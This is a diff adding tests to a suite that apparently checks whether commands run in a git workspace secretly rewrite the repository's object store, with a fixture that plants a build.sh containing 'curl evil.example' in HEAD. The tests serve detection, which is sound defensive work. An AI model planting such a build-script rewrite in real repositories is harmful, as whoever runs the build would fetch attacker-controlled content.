@@ -71,6 +71,16 @@ EOF`,
     expect(branchExists(ws, 'unattended/midx')).toBe(false);
   });
 
+  it("without a hand-off, the run's warnings say so: the repository's next checkout of build.sh would be the command's", async () => {
+    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'build.sh': 'echo safe\n', 'notes.txt': 'n\n' });
+    const run = await runCommands({ workspace: ws, commands: [REWRITE_BUILD_SH] });
+    expect(run.outputs[0]).toContain('planted');
+    expect(spawnSync('git', ['-C', ws, 'show', 'HEAD:build.sh'], { encoding: 'utf8' }).stdout).toContain('curl evil.example');
+    const warning = (run.report.warnings as string[]).find((w) => w.includes('object store'));
+    expect(warning).toMatch(/rewrote the repository's object store.*files_changed, git diff and the next checkout.*git fsck/);
+    expect(run.events.some((e) => e.type === 'warning' && String(e.message).includes('object store'))).toBe(true);
+  });
+
   it('an alternates file a command wrote (objects read from a directory of its own) fails the hand-off too', async () => {
     const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'notes.txt': 'n\n' });
     const run = await runCommands({
@@ -94,5 +104,6 @@ EOF`,
     expect(run.outputs[0]).toContain('done');
     expect(run.cli.code).toBe(0);
     expect(run.report.git).toMatchObject({ error: null, files: ['b.txt', 'notes.txt'] });
+    expect((run.report.warnings as string[]).filter((w) => w.includes('object store'))).toEqual([]);
   });
 });
